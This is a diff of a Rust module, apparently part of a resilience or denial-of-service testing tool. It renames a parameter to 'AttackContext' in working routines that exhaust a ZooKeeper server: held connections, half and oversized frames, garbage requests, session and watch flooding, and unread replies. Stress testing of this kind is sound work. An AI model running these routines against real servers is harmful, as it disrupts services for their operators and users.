@@ -4,7 +4,7 @@ use std::io::{Read, Write};
 use std::net::TcpStream;
 use std::time::Duration;
 
-use super::{Attack, HeldResources, Stage, push};
+use super::{Attack, AttackContext, HeldResources, push};
 use crate::common::raw::frame;
 
 const MANY: usize = 300;
@@ -42,72 +42,72 @@ fn request(op: i32, body: &[u8]) -> Vec<u8> {
     frame(&[&1_i32.to_be_bytes()[..], &op.to_be_bytes(), body].concat())
 }
 
-fn session(stage: &Stage) -> Option<TcpStream> {
-    let mut stream = stage.connect(stage.zookeeper)?;
+fn session(context: &AttackContext) -> Option<TcpStream> {
+    let mut stream = context.connect(context.zookeeper)?;
     push(&mut stream, &connect_request());
     stream.read_exact(&mut [0; 41]).ok()?;
     Some(stream)
 }
 
-fn sent(stage: &Stage, bytes: &[u8]) -> HeldResources {
+fn sent(context: &AttackContext, bytes: &[u8]) -> HeldResources {
     let open = || {
-        let mut stream = stage.connect(stage.zookeeper)?;
+        let mut stream = context.connect(context.zookeeper)?;
         push(&mut stream, bytes);
         Some(stream)
     };
-    stage.keep(MANY, open, |_| true)
+    context.keep(MANY, open, |_| true)
 }
 
-fn silent(stage: &Stage) -> HeldResources {
-    sent(stage, b"")
+fn silent(context: &AttackContext) -> HeldResources {
+    sent(context, b"")
 }
 
-fn half_connect(stage: &Stage) -> HeldResources {
-    sent(stage, &connect_request()[..20])
+fn half_connect(context: &AttackContext) -> HeldResources {
+    sent(context, &connect_request()[..20])
 }
 
-fn endless_connect(stage: &Stage) -> HeldResources {
-    sent(stage, &[&1_000_000_u32.to_be_bytes()[..], &[0; 900_000]].concat())
+fn endless_connect(context: &AttackContext) -> HeldResources {
+    sent(context, &[&1_000_000_u32.to_be_bytes()[..], &[0; 900_000]].concat())
 }
 
-fn half_packets(stage: &Stage) -> HeldResources {
+fn half_packets(context: &AttackContext) -> HeldResources {
     let half = [&1_000_000_u32.to_be_bytes()[..], &[0; 900_000]].concat();
     let open = || {
-        let mut stream = session(stage)?;
+        let mut stream = session(context)?;
         push(&mut stream, &half);
         Some(stream)
     };
-    stage.keep(MANY, open, |stream| push(stream, &[0]))
+    context.keep(MANY, open, |stream| push(stream, &[0]))
 }
 
-fn garbage(stage: &Stage) -> HeldResources {
+fn garbage(context: &AttackContext) -> HeldResources {
     let mut turn = 0_u32;
     let open = || {
         turn = turn.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
         let bytes: Vec<u8> = (0..500_u32).map(|n| (turn.wrapping_mul(n + 1) >> 13) as u8).collect();
-        let mut stream = if turn & 4 == 0 { stage.connect(stage.zookeeper)? } else { session(stage)? };
+        let mut stream = if turn & 4 == 0 { context.connect(context.zookeeper)? } else { session(context)? };
         match turn & 8 {
             0 => push(&mut stream, &bytes),
             _ => push(&mut stream, &request((turn >> 8) as i32 % 110, &bytes)),
         };
         Some(stream)
     };
-    stage.keep(20, open, |stream| {
+    context.keep(20, open, |stream| {
         push(stream, &request(0, b""));
         false
     })
 }
 
 /// Sessions whose connections are closed: they are kept until they expire.
-fn sessions(stage: &Stage) -> HeldResources {
-    while stage.runs() {
-        drop(session(stage));
+fn sessions(context: &AttackContext) -> HeldResources {
+    while context.runs() {
+        drop(session(context));
     }
     Box::new(())
 }
 
 /// Watches of absent nodes, up to the server's limit.
-fn watches(stage: &Stage) -> HeldResources {
+fn watches(context: &AttackContext) -> HeldResources {
     let mut next = 0_u64;
     let mut batch = || -> Vec<u8> {
         let exists = |n: u64| {
@@ -117,9 +117,9 @@ fn watches(stage: &Stage) -> HeldResources {
         next += 500;
         (next..next + 500).flat_map(exists).collect()
     };
-    stage.keep(
+    context.keep(
         40,
-        || session(stage),
+        || session(context),
         |stream| {
             super::drain(stream);
             push(stream, &batch())
@@ -127,7 +127,7 @@ fn watches(stage: &Stage) -> HeldResources {
     )
 }
 
-fn never_read(stage: &Stage) -> HeldResources {
+fn never_read(context: &AttackContext) -> HeldResources {
     let paths: Vec<String> = (0..30_000).map(|n| format!("/{n:05}")).collect();
     let nothing = 0_u32.to_be_bytes();
     let set = [&0_i64.to_be_bytes()[..], &strings(&paths), &nothing, &nothing].concat();
@@ -136,10 +136,10 @@ fn never_read(stage: &Stage) -> HeldResources {
     let mut turn = 0;
     let open = || {
         turn += 1;
-        let mut stream = session(stage)?;
+        let mut stream = session(context)?;
         stream.set_write_timeout(Some(Duration::from_millis(20))).ok()?;
         let _ = stream.write(&requests[turn % 2]);
         Some(stream)
     };
-    stage.keep(60, open, |_| true)
+    context.keep(60, open, |_| true)
 }
